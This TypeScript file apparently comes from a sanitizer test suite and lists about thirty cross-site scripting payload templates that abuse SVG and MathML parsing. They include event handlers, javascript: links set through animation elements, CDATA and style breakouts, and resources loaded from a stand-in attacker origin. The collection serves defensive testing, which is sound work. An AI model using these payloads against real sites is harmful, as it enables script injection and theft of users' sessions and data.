// Payloads in SVG and MathML, where other parsing rules apply.
import { ATTACKER_ORIGIN, toEntities, type PayloadFamily } from './payload-family';

export const FOREIGN_CONTENT_PAYLOADS: PayloadFamily = {
  'an SVG with onload': (run) => `<svg onload=${run}>`,
  'an SVG tag without spaces': (run) => `<svg/onload="${run}">`,
  'a script in an SVG': (run) => `<svg><script>${run}</script></svg>`,
  'an encoded script in an SVG': (run) => `<svg><script>${toEntities(run, 10)}</script></svg>`,
  'an external script in an SVG': (run) => `<svg><script href="data:,${run}"/></svg>`,
  'an SVG animation with onbegin': (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  'an SVG animation of a URL': (run) =>
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text x=9 y=9>a</text></a></svg>`,
  'an SVG set element for a URL': (run) =>
    `<svg><a><set attributeName="xlink:href" to="javascript:${run}"/><text x=9 y=9>a</text></a></svg>`,
  'a link in an SVG': (run) => `<svg><a xlink:href="javascript:${run}"><text x=9 y=9>a</text></a></svg>`,
  'an SVG use element': (run) =>
    `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#a"/></svg>`,
  'a foreignObject in an SVG': (run) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></svg>`,
  'an image in an SVG': (run) => `<svg><image href=x onerror=${run} /></svg>`,
  'an image that an SVG loads': () =>
    `<svg><image href="${ATTACKER_ORIGIN}/a.svg" /><feImage href="${ATTACKER_ORIGIN}/b.svg" /></svg>`,
  'a title of an SVG': (run) => `<svg><title><img src=x onerror=${run}></title></svg>`,
  'a description of an SVG': (run) => `<svg><desc><img src=x onerror=${run}></desc></svg>`,
  'a style in an SVG': (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  'a style with an attribute in an SVG': (run) => `<svg><style><p title="</style><img src=x onerror=${run}>"></svg>`,
  'a paragraph that closes an SVG': (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  'a line break that closes an SVG': (run) => `<svg><br><img src=x onerror=${run}></svg>`,
  'a CDATA section in an SVG': (run) => `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  'a CDATA section that hides an end tag': (run) => `<svg><![CDATA[</svg><p title="]]>"><img src=x onerror=${run}>`,
  'an SVG event handler element': (run) =>
    `<svg><handler type="text/javascript">${run}</handler><g onclick="${run}">a</g></svg>`,
  'an entity in an SVG': (run) => `<!DOCTYPE svg [<!ENTITY e "<script>${run}</script>">]><svg>&e;</svg>`,
  'a namespace prefix': (run) => `<svg:script>${run}</svg:script><x:img src=x onerror=${run}>`,
  'a link in MathML': (run) => `<math><a xlink:href="javascript:${run}">a</a></math>`,
  'a MathML element with a link': (run) => `<math href="javascript:${run}"><mi href="javascript:${run}">a</mi></math>`,
  'a script in MathML': (run) => `<math><mtext><script>${run}</script></mtext></math>`,
  'an image in MathML': (run) => `<math><mi><img src=x onerror=${run}></mi></math>`,
  'an HTML annotation in MathML': (run) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  'a MathML action': (run) =>
    `<math><maction actiontype="statusline#a" xlink:href="javascript:${run}">a</maction></math>`,
};
